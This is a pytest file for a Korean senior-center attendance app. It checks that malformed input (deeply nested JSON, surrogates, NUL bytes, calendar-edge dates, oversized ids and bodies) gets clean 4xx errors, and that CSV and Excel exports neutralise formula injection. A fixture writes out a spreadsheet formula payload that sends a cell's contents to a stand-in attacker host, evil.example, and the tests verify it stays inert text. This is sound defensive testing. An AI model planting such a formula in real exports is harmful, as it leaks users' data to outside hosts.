"""No input is a 500: JSON nested too deep, lone surrogates and NUL, the calendar's edges, ids
past INTEGER on pages, bodies over MAX_CONTENT_LENGTH; and exports keep formula-like text as
text (CSV: a leading ``'``; Excel: a string cell, read back with openpyxl)."""

import csv
import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from app import clock
from app.auth.models import Role
from app.extensions import db, limiter
from tests.centers.reports import report_data
from tests.factories import CenterFactory, UserFactory

DEEP = "[" * 5000 + "]" * 5000
NOV = {"from": "2026-11-01", "to": "2026-11-30"}


@pytest.fixture
def admin_headers(make_token):
    return make_token(UserFactory(role=Role.ADMIN))


def _error(response, status, code="invalid"):
    assert response.status_code == status, response.get_data(as_text=True)[:300]
    body = response.get_json()
    assert body["error"]["code"] == code, body
    return body["error"]


# --- JSON bodies ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "method, path",
    [
        ("post", "/api/v1/tablet/pair"),
        ("post", "/api/v1/programs"),
        ("post", "/api/v1/sessions"),
        ("put", "/api/v1/sessions/1/attendance/1"),
        ("post", "/api/v1/weeks/2026-W48/copy"),
        ("patch", "/api/v1/care/follow-ups/1"),
    ],
)
def test_deeply_nested_json_is_invalid_body(client, admin_headers, method, path):
    response = getattr(client, method)(path, data=DEEP, content_type="application/json", headers=admin_headers)
    assert _error(response, 422)["details"]["field"] == "body"


def test_deep_json_is_invalid_even_while_pairing_is_rate_limited(database_url):
    # An app of its own: the limiter builds its storage only when enabled as the app starts,
    # which the session's app (RATELIMIT_ENABLED off) never does.
    from app import create_app
    from tests.conftest import _test_config

    limited = create_app(
        {**_test_config(database_url), "RATELIMIT_ENABLED": True, "TABLET_PAIR_RATE_LIMIT": "2 per minute"}
    )
    limiter.enabled = True
    try:
        with limited.app_context():
            client = limited.test_client()
            statuses = [client.post("/api/v1/tablet/pair", json={"code": "000000"}).status_code for _ in range(3)]
            assert statuses[-1] == 429
            response = client.post("/api/v1/tablet/pair", data=DEEP, content_type="application/json")
            assert _error(response, 422)["details"]["field"] == "body"
            db.session.remove()
    finally:
        limiter.reset()
        limiter.enabled = False
        with limited.app_context():
            db.engine.dispose()


def test_moderately_nested_json_still_reaches_validation(client, admin_headers):
    body = '{"title": "x", "category": "leisure", "description": ' + "[" * 20 + "]" * 20 + "}"
    response = client.post("/api/v1/programs", data=body, content_type="application/json", headers=admin_headers)
    assert _error(response, 422)["details"]["field"] == "description"


@pytest.mark.parametrize("text", ["x\\ud800y", "\\udfff", "a\\u0000b"])
def test_unstorable_text_in_a_json_field_is_invalid_naming_it(client, admin_headers, text):
    body = '{"title": "' + text + '", "category": "leisure"}'
    response = client.post("/api/v1/programs", data=body, content_type="application/json", headers=admin_headers)
    assert _error(response, 422)["details"]["field"] == "title"
    assert client.get("/api/v1/programs", headers=admin_headers).get_json() == []


def test_surrogate_in_a_nested_field_and_in_a_key(client, admin_headers):
    body = '{"name": "n", "province": "p", "x": [{"note": "\\ud800"}]}'
    response = client.post("/api/v1/counties", data=body, content_type="application/json", headers=admin_headers)
    assert _error(response, 422)["details"]["field"] == "note"
    body = '{"\\ud800": 1, "name": "n", "province": "p"}'
    response = client.post("/api/v1/counties", data=body, content_type="application/json", headers=admin_headers)
    assert _error(response, 422)["details"]["field"] == "?"


def test_unstorable_text_in_page_forms_and_queries_is_a_400_page(client, login_as):
    login_as(UserFactory(role=Role.COORDINATOR))
    assert client.get("/centers", query_string={"q": "a\x00b"}).status_code == 400
    from tests.conftest import csrf_token

    token = csrf_token(client, "/home")
    response = client.post("/programs", data={"title": "a\x00b", "category": "leisure", "csrf_token": token})
    assert response.status_code == 400
    assert "요청을 처리할 수 없습니다" in response.get_data(as_text=True)


# --- request size ----------------------------------------------------------------------------


def test_body_over_max_content_length_is_413_too_large(client, app, admin_headers):
    assert app.config["MAX_CONTENT_LENGTH"] == 1024 * 1024
    big = '{"title": "' + "x" * (1024 * 1024) + '", "category": "leisure"}'
    response = client.post("/api/v1/programs", data=big, content_type="application/json", headers=admin_headers)
    error = _error(response, 413, "too_large")
    assert error["message"] == "요청이 너무 큽니다."
    response = client.post("/api/v1/tablet/pair", data=big, content_type="application/json")
    _error(response, 413, "too_large")


def test_max_content_length_comes_from_the_environment(monkeypatch, tmp_path):
    from app import config

    monkeypatch.setenv("MAX_CONTENT_LENGTH", "2048")
    assert config.load(tmp_path, {})["MAX_CONTENT_LENGTH"] == 2048


def test_page_body_over_the_limit_is_a_friendly_page(client, app_config, login_as):
    login_as(UserFactory(role=Role.COORDINATOR))
    app_config(MAX_CONTENT_LENGTH=1000)
    response = client.post("/programs", data={"title": "x" * 5000, "csrf_token": "t"})
    assert response.status_code == 413
    assert "요청을 처리할 수 없습니다" in response.get_data(as_text=True)


# --- the calendar's edges ------------------------------------------------------------------------


@pytest.mark.parametrize("week", ["9999-W52", "0001-W01", "1899-W52", "3000-W02"])
def test_weeks_at_the_calendar_edges(client, admin_headers, login_as, week):
    error = _error(client.get(f"/api/v1/weeks/{week}", headers=admin_headers), 422)
    assert error["details"]["field"] == "week"
    _error(client.post(f"/api/v1/weeks/{week}/copy", json={"from_week": "2026-W48"}, headers=admin_headers), 422)
    copy = client.post("/api/v1/weeks/2026-W48/copy", json={"from_week": week}, headers=admin_headers)
    assert _error(copy, 422)["details"]["field"] == "from_week"
    center = CenterFactory()
    login_as(UserFactory(role=Role.COORDINATOR))
    assert client.get(f"/weeks/{week}").status_code == 404
    assert client.get(f"/centers/{center.id}/timetable", query_string={"week": week}).status_code == 404


def test_last_and_first_supported_weeks_work(client, admin_headers):
    assert client.get("/api/v1/weeks/2999-W52", headers=admin_headers).status_code == 200
    assert client.get("/api/v1/weeks/1900-W02", headers=admin_headers).status_code == 200


@pytest.mark.parametrize(
    "field, value",
    [("from", "0001-01-01"), ("until", "9999-12-31"), ("from", "9999-12-30")],
)
def test_repeat_near_year_1_and_9999_is_invalid(client, admin_headers, field, value):
    body = {
        "program_id": 1,
        "instructor_id": 1,
        "start": "10:00",
        "weekdays": ["MO"],
        "from": "2026-11-02",
        "until": "2026-11-30",
        "center_ids": [1],
        field: value,
    }
    response = client.post("/api/v1/sessions/repeat", json=body, headers=admin_headers)
    assert _error(response, 422)["details"]["field"] == field


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/reports/attendance?from=0001-01-01&to=0001-01-31",
        "/api/v1/sessions?from=0001-01-01",
        "/api/v1/attendance?to=9999-12-31",
    ],
)
def test_api_dates_outside_the_calendar_are_invalid(client, admin_headers, path):
    _error(client.get(path, headers=admin_headers), 422)


@pytest.mark.parametrize(
    "query",
    [
        {"from": "0001-01-01", "to": "0001-01-31"},
        {"from": "9999-12-01", "to": "9999-12-31"},
        {"from": "0001-01-01", "to": "0001-01-31", "group_by": "week"},
    ],
)
def test_report_pages_at_the_calendar_edges(client, login_as, query):
    login_as(UserFactory(role=Role.COORDINATOR))
    for path in ("/reports/", "/reports/attendance.csv", "/reports/attendance.xlsx"):
        response = client.get(path, query_string=query)
        assert response.status_code == 302, path
        assert response.headers["Location"] == "/reports/"
        assert "1900-01-01부터 2999-12-31 사이의 날짜만" in client.get("/reports/").get_data(as_text=True)
    # The print page has no flash area: it says what is wrong in place (never another period).
    printed = client.get("/reports/print", query_string=query)
    assert printed.status_code == 422
    assert "1900-01-01부터 2999-12-31 사이의 날짜만" in printed.get_data(as_text=True)


def test_attendance_page_outside_the_calendar_says_the_dates_are_not_valid(client, login_as):
    login_as(UserFactory(role=Role.COORDINATOR))
    response = client.get("/attendance", query_string={"from": "0001-01-01", "to": "9999-12-31"})
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert "시작일: 날짜는 YYYY-MM-DD 형식으로 입력하세요." in page and 'value="0001-01-01"' in page


# --- ids in page query strings follow the API's rules ---------------------------------------------


@pytest.mark.parametrize("value", ["99999999999999999999", "-1", "abc"])
@pytest.mark.parametrize(
    "path",
    ["/reports/", "/reports/attendance.csv", "/reports/attendance.xlsx", "/reports/print", "/care/", "/centers"],
)
def test_bad_county_id_on_pages_is_a_form_error(client, login_as, path, value):
    login_as(UserFactory(role=Role.COORDINATOR))
    response = client.get(path, query_string={"county_id": value})
    if path == "/reports/print":  # said in place: the print page has no flash area
        assert response.status_code == 422
        assert "입력값이 올바르지 않습니다" in response.get_data(as_text=True)
        return
    assert response.status_code == 302, response.get_data(as_text=True)[:300]
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "입력값이 올바르지 않습니다" in page


def test_center_id_and_timetable_pick_follow_the_id_rules(client, login_as):
    login_as(UserFactory(role=Role.COORDINATOR))
    assert client.get("/reports/", query_string={"center_id": "99999999999999999999"}).status_code == 302
    assert client.get("/timetable", query_string={"center": "99999999999999999999"}).status_code == 302
    assert client.get("/reports/", query_string={"county_id": "2147483647"}).status_code == 404


def test_parse_id_rules():
    from app.errors import Invalid
    from app.params import parse_id

    assert parse_id("12", "x") == 12 and parse_id(" 7 ", "x") == 7 and parse_id("", "x") is None
    for bad in ("0", "-3", "+3", "1_000", "2147483648", "x"):
        with pytest.raises(Invalid) as caught:
            parse_id(bad, "county_id")
        assert caught.value.details == {"field": "county_id"}


# --- exports keep formula-like text as text -----------------------------------------------------


@pytest.fixture
def hostile_data():
    data = report_data.build()
    data.c1.name = '=HYPERLINK("http://evil.example/?d="&B5,"상세")'
    data.c2.name = "+c2 경로당"
    data.county_a.name = "@봉화군"
    data.leisure.title = "=2+3"
    data.health.title = "-건강"
    data.members["m1"].name = "=1+1"
    db.session.commit()
    return data


def _cells(book, sheet_name=None):
    sheets = [book[sheet_name]] if sheet_name else book.worksheets
    return [cell for sheet in sheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_excel_exports_write_formula_like_text_as_string_cells(client, login_as, hostile_data):
    clock.freeze(datetime(2026, 12, 2, 3, 0, tzinfo=UTC))
    login_as(UserFactory(role=Role.COORDINATOR))
    response = client.get("/reports/attendance.xlsx", query_string={**NOV, "county_id": hostile_data.county_a.id})
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    assert "어르신별" in book.sheetnames
    cells = _cells(book)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    hostile = {'=HYPERLINK("http://evil.example/?d="&B5,"상세")', "+c2 경로당", "=2+3", "-건강", "=1+1"}
    found = {c.value: c for c in cells if c.value in hostile}
    assert set(found) == hostile
    assert all(c.data_type == "s" and c.quotePrefix for c in found.values())
    assert any(isinstance(c.value, str) and c.value.startswith("@봉화군") for c in cells)


def test_county_viewer_excel_has_program_titles_as_text(client, login_as, hostile_data):
    clock.freeze(datetime(2026, 12, 2, 3, 0, tzinfo=UTC))
    login_as(UserFactory(role=Role.COUNTY_VIEWER, county_id=hostile_data.county_a.id))
    book = load_workbook(io.BytesIO(client.get("/reports/attendance.xlsx", query_string=NOV).data))
    titles = [c for c in _cells(book, "수업별") if c.value == "=2+3"]
    assert titles and all(c.data_type == "s" for c in titles)
    assert not [c for c in _cells(book) if c.data_type == "f"]


@pytest.mark.parametrize("group_by", ["center", "program"])
def test_csv_prefixes_formula_like_fields(client, login_as, hostile_data, group_by):
    clock.freeze(datetime(2026, 12, 2, 3, 0, tzinfo=UTC))
    login_as(UserFactory(role=Role.COORDINATOR))
    raw = client.get("/reports/attendance.csv", query_string={**NOV, "group_by": group_by}).data
    fields = [f for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"))) for f in row]
    assert fields and not [f for f in fields if f[:1] in ("=", "+", "-", "@", "\t", "\r")]
    if group_by == "center":
        assert "'=HYPERLINK(\"http://evil.example/?d=\"&B5,\"상세\")" in fields
        assert "'+c2 경로당" in fields and "'@봉화군" in fields
    else:
        assert "'=2+3" in fields and "'-건강" in fields


def test_csv_text_leaves_ordinary_values_alone():
    from centers.reports.exports import csv_text

    assert csv_text("봉화군") == "봉화군" and csv_text(12) == 12 and csv_text("") == ""
    assert csv_text("\tx") == "'\tx" and csv_text("\rx") == "'\rx"
